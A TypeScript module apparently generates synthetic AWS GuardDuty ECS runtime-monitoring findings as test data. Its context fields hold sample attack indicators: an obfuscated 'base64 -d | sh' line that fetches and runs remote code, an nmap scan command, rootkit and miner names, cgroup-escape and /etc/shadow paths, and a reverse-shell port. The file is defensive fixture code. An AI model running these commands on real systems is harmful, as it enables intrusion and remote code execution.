import { createHash } from 'node:crypto';
import { detectorIdFor, randomHex } from './ids.js';
import { type EvidenceKind, runtimeTypeInfo } from './runtime-types.js';
import { arnAccount, lastSegment } from './state.js';
import type { EcsClusterRecord, EcsTag, EcsTask, EcsTaskDefinition, WireFinding } from './wire-types.js';

/**
 * Builds a realistic wire-shape (camelCase) ECS Runtime Monitoring finding, modelled on
 * SYNTHETIC-ecs-fargate-runtime-newbinaryexecuted.finding.json: resource ECSCluster with the
 * task's containers (sidecar included), runtimeDetails.process with lineage, and a context and
 * action that fit the type.
 */
export interface MakeFindingOptions {
  type: string;
  task: EcsTask;
  cluster?: EcsClusterRecord;
  taskDefinition?: EcsTaskDefinition;
  severity?: number;
  count?: number;
  id?: string;
  /** epoch ms of creation (default: now) */
  at?: number;
  /** epoch ms of the last update (default: `at`) */
  updatedAt?: number;
  sample?: boolean;
  archived?: boolean;
  /** name of the container the activity happened in (default: first non-sidecar) */
  container?: string;
  process?: Record<string, unknown>;
  context?: Record<string, unknown>;
  action?: Record<string, unknown>;
  /** counts for the cluster block (defaults from the task alone) */
  clusterCounts?: { activeServicesCount?: number; runningTasksCount?: number };
}

export const isSidecar = (name: string): boolean => name.startsWith('aws-guardduty-agent-');

interface ProcessProfile {
  name: string;
  exe: string;
  pwd?: string;
}

const PROCESS_BY_KIND: Record<EvidenceKind, ProcessProfile> = {
  dns: { name: 'curl', exe: '/usr/bin/curl' },
  network: { name: 'nc', exe: '/usr/bin/nc' },
  process: { name: 'xmrig', exe: '/tmp/.x/xmrig', pwd: '/tmp/.x' },
  library: { name: 'python3', exe: '/usr/bin/python3.11' },
  socket: { name: 'docker', exe: '/usr/local/bin/docker' },
  runc: { name: 'runc', exe: '/tmp/runc' },
  cgroups: { name: 'sh', exe: '/bin/sh' },
  mount: { name: 'mount', exe: '/bin/mount' },
  tool: { name: 'nmap', exe: '/usr/bin/nmap' },
  command: { name: 'base64', exe: '/usr/bin/base64' },
  injection: { name: 'gdb', exe: '/usr/bin/gdb' },
  module: { name: 'insmod', exe: '/sbin/insmod' },
  file: { name: 'sed', exe: '/bin/sed' },
  malware: { name: 'kworkerds', exe: '/var/tmp/kworkerds', pwd: '/var/tmp' },
};

const sha256 = (s: string): string => createHash('sha256').update(s).digest('hex');
const pseudoUuid = (): string => {
  const h = randomHex(16);
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-8${h.slice(17, 20)}-${h.slice(20, 32)}`;
};

function processDetails(
  kind: EvidenceKind,
  startSec: number,
  taskStartSec: number,
  override: Record<string, unknown> = {},
) {
  const p = PROCESS_BY_KIND[kind];
  const uuid = pseudoUuid();
  const shellUuid = pseudoUuid();
  const rootUuid = pseudoUuid();
  return {
    name: p.name,
    executablePath: p.exe,
    executableSha256: sha256(p.exe),
    namespacePid: 42,
    pwd: p.pwd ?? '/app',
    pid: 4000 + Math.floor(Math.random() * 1000),
    startTime: startSec,
    uuid,
    parentUuid: shellUuid,
    user: 'root',
    userId: 0,
    euid: 0,
    lineage: [
      {
        startTime: startSec - 1,
        namespacePid: 41,
        userId: 0,
        name: 'sh',
        pid: 3999,
        uuid: shellUuid,
        executablePath: '/bin/sh',
        euid: 0,
        parentUuid: rootUuid,
      },
      {
        startTime: taskStartSec,
        namespacePid: 1,
        userId: 0,
        name: 'node',
        pid: 512,
        uuid: rootUuid,
        executablePath: '/usr/local/bin/node',
        euid: 0,
        parentUuid: '00000000-0000-4000-8000-000000000000',
      },
    ],
    ...override,
  };
}

function contextFor(kind: EvidenceKind, type: string, atSec: number): Record<string, unknown> {
  switch (kind) {
    case 'library':
      return {
        libraryPath: '/tmp/libprocesshider.so',
        modifiedAt: atSec - 30,
        modifyingProcess: { name: 'cp', executablePath: '/bin/cp', pid: 3990, uuid: pseudoUuid() },
      };
    case 'socket':
      return { socketPath: '/var/run/docker.sock' };
    case 'runc':
      return { runcBinaryPath: '/usr/bin/runc' };
    case 'cgroups':
      return { releaseAgentPath: '/sys/fs/cgroup/rdma/release_agent' };
    case 'mount':
      return {
        mountSource: '/dev/nvme0n1p1',
        mountTarget: '/mnt/host',
        fileSystemType: 'ext4',
        flags: ['MS_RDONLY'],
      };
    case 'tool':
      return {
        toolName: 'nmap',
        toolCategory: 'Network Scanner',
        commandLineExample: 'nmap -sS 10.0.0.0/16',
      };
    case 'command':
      return { commandLineExample: 'echo Y3VybCBodHRwOi8vMTAuMC4wLjEveCB8IHNo | base64 -d | sh' };
    case 'injection':
      return {
        targetProcess: { name: 'node', executablePath: '/usr/local/bin/node', pid: 512, uuid: pseudoUuid() },
        ...(type.endsWith('VirtualMemoryWrite') ? { memoryRegions: ['[heap]'] } : {}),
      };
    case 'module':
      return {
        moduleName: 'diamorphine',
        moduleFilePath: '/tmp/diamorphine.ko',
        moduleSha256: sha256('diamorphine'),
      };
    case 'file':
      return { fileOperation: 'OPEN_FOR_WRITE', filePath: '/etc/passwd', relatedFilePaths: ['/etc/shadow'] };
    case 'malware':
      return { threatFilePath: '/var/tmp/kworkerds' };
    default:
      return {};
  }
}

function actionFor(kind: EvidenceKind, type: string): Record<string, unknown> {
  if (kind === 'dns') {
    const domain = type.includes('Bitcoin') ? 'pool.minexmr.example' : 'c2.malicious.example';
    return {
      actionType: 'DNS_REQUEST',
      dnsRequestAction: {
        domain,
        protocol: 'UDP',
        blocked: false,
        domainWithSuffix: domain.split('.').slice(-2).join('.'),
      },
    };
  }
  if (kind === 'network') {
    return {
      actionType: 'NETWORK_CONNECTION',
      networkConnectionAction: {
        connectionDirection: 'OUTBOUND',
        protocol: 'TCP',
        blocked: false,
        remoteIpDetails: {
          ipAddressV4: '198.51.100.23',
          organization: { asn: '64500', asnOrg: 'EXAMPLE-AS', isp: 'Example ISP', org: 'Example' },
          country: { countryName: 'Netherlands' },
        },
        remotePortDetails: {
          port: type.includes('ReverseShell') ? 4444 : 443,
          portName: type.includes('ReverseShell') ? 'Unknown' : 'HTTPS',
        },
        localPortDetails: { port: 45612, portName: 'Unknown' },
      },
    };
  }
  return {};
}

/** Region and account of an ECS task ARN. */
function taskScope(task: EcsTask): { accountId: string; region: string } {
  const parts = task.taskArn.split(':');
  return { region: parts[3] ?? 'us-east-1', accountId: arnAccount(task.taskArn) ?? '000000000000' };
}

export function makeFinding(opts: MakeFindingOptions): WireFinding {
  const info = runtimeTypeInfo(opts.type);
  const { accountId, region } = taskScope(opts.task);
  const at = opts.at ?? Date.now();
  const atSec = at / 1000;
  const id = opts.id ?? randomHex(16);
  const detectorId = detectorIdFor(accountId, region);
  const clusterName = lastSegment(opts.task.clusterArn);
  const taskStart = opts.task.startedAt ?? opts.task.createdAt;
  const app = opts.task.containers.find((c) =>
    opts.container ? c.name === opts.container : !isSidecar(c.name),
  );
  const privileged = (name: string): boolean =>
    opts.taskDefinition?.containerDefinitions.find((d) => d.name === name)?.privileged ?? false;
  const containers = opts.task.containers.map((c) => ({
    containerRuntime: 'containerd',
    id: c.runtimeId,
    name: c.name,
    image: c.image,
    imagePrefix: c.image.includes('/') ? c.image.slice(0, c.image.lastIndexOf('/')) : c.image.split(':')[0],
    volumeMounts: [],
    securityContext: { privileged: privileged(c.name), allowPrivilegeEscalation: false },
  }));
  const tags: EcsTag[] = opts.cluster?.tags ?? [];
  const sample = opts.sample ?? false;
  const additional: Record<string, unknown> = {
    agentDetails: { agentVersion: '1.7.0', agentId: randomHex(8) },
  };
  if (sample) additional.sample = true;
  const iso = new Date(at).toISOString();
  const updatedIso = new Date(opts.updatedAt ?? at).toISOString();
  const where = app ? `container ${app.name} of task ${opts.task.taskArn}` : `task ${opts.task.taskArn}`;
  return {
    schemaVersion: '2.0',
    accountId,
    region,
    partition: 'aws',
    id,
    arn: `arn:aws:guardduty:${region}:${accountId}:detector/${detectorId}/finding/${id}`,
    type: opts.type,
    resource: {
      resourceType: 'ECSCluster',
      ecsClusterDetails: {
        name: clusterName,
        arn: opts.task.clusterArn,
        status: 'ACTIVE',
        activeServicesCount: opts.clusterCounts?.activeServicesCount ?? 1,
        registeredContainerInstancesCount: opts.task.launchType === 'EC2' ? 1 : 0,
        runningTasksCount: opts.clusterCounts?.runningTasksCount ?? 1,
        tags,
        taskDetails: {
          arn: opts.task.taskArn,
          definitionArn: opts.task.taskDefinitionArn,
          version: String(opts.task.version),
          createdAt: opts.task.createdAt,
          ...(opts.task.startedAt !== undefined ? { startedAt: opts.task.startedAt } : {}),
          ...(opts.task.startedBy ? { startedBy: opts.task.startedBy } : {}),
          tags: opts.task.tags,
          volumes: [],
          containers,
          group: opts.task.group,
          launchType: opts.task.launchType,
        },
      },
    },
    service: {
      serviceName: 'guardduty',
      detectorId,
      featureName: 'RuntimeMonitoring',
      action: opts.action ?? actionFor(info.kind, opts.type),
      resourceRole: 'TARGET',
      runtimeDetails: {
        process: processDetails(info.kind, atSec - 5, taskStart, opts.process),
        context: opts.context ?? contextFor(info.kind, opts.type, atSec),
      },
      additionalInfo: { value: JSON.stringify(additional), type: 'default' },
      ...(info.kind === 'dns' || info.kind === 'network' || info.kind === 'malware'
        ? {
            evidence: {
              threatIntelligenceDetails: [
                { threatListName: 'ProofPoint', threatNames: ['Generic.Malicious'] },
              ],
            },
          }
        : {}),
      eventFirstSeen: iso,
      eventLastSeen: updatedIso,
      archived: opts.archived ?? false,
      count: opts.count ?? 1,
    },
    severity: opts.severity ?? info.severity,
    createdAt: iso,
    updatedAt: updatedIso,
    title: info.title,
    description: `${info.title} The activity was observed in ${where}.`,
  };
}
